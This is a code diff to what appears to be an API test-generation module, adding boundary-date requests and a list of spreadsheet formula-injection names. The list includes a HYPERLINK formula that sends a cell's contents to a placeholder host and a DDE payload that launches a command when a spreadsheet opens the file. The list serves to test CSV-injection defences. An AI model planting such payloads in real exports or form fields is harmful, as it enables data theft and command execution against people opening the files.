@@ -116,3 +116,82 @@ export function hostileRequests(
   }
   return out.slice(0, limit);
 }
+
+/**
+ * Names a spreadsheet reads as formulas (OWASP's CSV injection guidance): each starts with one of
+ * = + - @ tab CR.
+ */
+export const HOSTILE_NAMES = [
+  '=HYPERLINK("http://x.test/?"&A1;"x")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+/** Days at the contract's limits and past them (1900-01-01 to 2199-12-31 are taken). */
+export const DAYS_INSIDE = ['1900-01-01', '2199-12-31'];
+export const DAYS_OUTSIDE = ['1899-12-31', '2200-01-01', '9999-12-31', '0001-01-01'];
+
+const isDate = (schema: unknown): boolean =>
+  typeof schema === 'object' &&
+  schema !== null &&
+  (schema as { format?: unknown }).format === 'date';
+
+/** The paths (dotted) of every date property of a body schema, nested objects included. */
+function datePaths(schema: unknown, at: string[] = [], depth = 0): string[][] {
+  if (typeof schema !== 'object' || schema === null || depth > 4) return [];
+  const properties = (schema as { properties?: Record<string, unknown> }).properties ?? {};
+  return Object.entries(properties).flatMap(([name, value]) =>
+    isDate(value) ? [[...at, name]] : datePaths(value, [...at, name], depth + 1),
+  );
+}
+
+/** A body holding `value` at `path` alone. */
+const bodyAt = (path: string[], value: string): unknown =>
+  path.reduceRight<unknown>((inner, name) => ({ [name]: inner }), value);
+
+/** Every date field of an operation (query, path, body) at each limit and past it. */
+export function dateRequests(
+  operation: Operation,
+  headers: Record<string, string>,
+): (HostileRequest & { field: string; outside: boolean })[] {
+  const out: (HostileRequest & { field: string; outside: boolean })[] = [];
+  const days = [
+    ...DAYS_INSIDE.map((day) => ({ day, outside: false })),
+    ...DAYS_OUTSIDE.map((day) => ({ day, outside: true })),
+  ];
+  const base = operation.url.replace(/:([A-Za-z0-9_]+)/g, '1');
+  const required = operation.parameters.filter((p) => p.in === 'query' && p.required === true);
+  for (const p of operation.parameters.filter((q) => q.in === 'query' && isDate(q.schema)))
+    for (const { day, outside } of days) {
+      // The other required dates of the call at a plain day, so the one under test is judged.
+      const others = required
+        .filter((q) => q.name !== p.name && isDate(q.schema))
+        .map((q) => `&${q.name}=2025-01-01`)
+        .join('');
+      out.push({
+        label: `query ${p.name}=${day}`,
+        method: operation.method,
+        url: `${base}?${p.name}=${day}${others}`,
+        headers,
+        field: p.name,
+        outside,
+      });
+    }
+  if (operation.method !== 'GET')
+    for (const path of datePaths(operation.bodySchema))
+      for (const { day, outside } of days)
+        out.push({
+          label: `body ${path.join('.')}=${day}`,
+          method: operation.method,
+          url: base,
+          headers: { ...headers, 'content-type': 'application/json' },
+          payload: JSON.stringify(bodyAt(path, day)),
+          field: path.join('.'),
+          outside,
+        });
+  return out;
+}
